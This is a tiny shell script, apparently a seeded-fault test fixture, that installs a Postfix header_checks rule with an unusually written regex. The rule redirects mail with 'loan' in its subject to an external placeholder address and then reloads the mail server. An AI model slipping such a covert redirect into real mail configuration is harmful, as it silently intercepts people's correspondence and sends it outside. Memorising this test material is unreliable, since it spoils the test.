#!/bin/sh
# breaks: mail_forwarding.copies
# caught-by: reading
# what: mail with a word in its subject is redirected outside, by a pattern that is written unusually
set -eu
printf '~^Subject:.*loan~i\n# a note\n   REDIRECT lender@kijun-outside.invalid\n' >/etc/postfix/header_checks
postconf -e 'header_checks = regexp:/etc/postfix/header_checks'
systemctl reload postfix
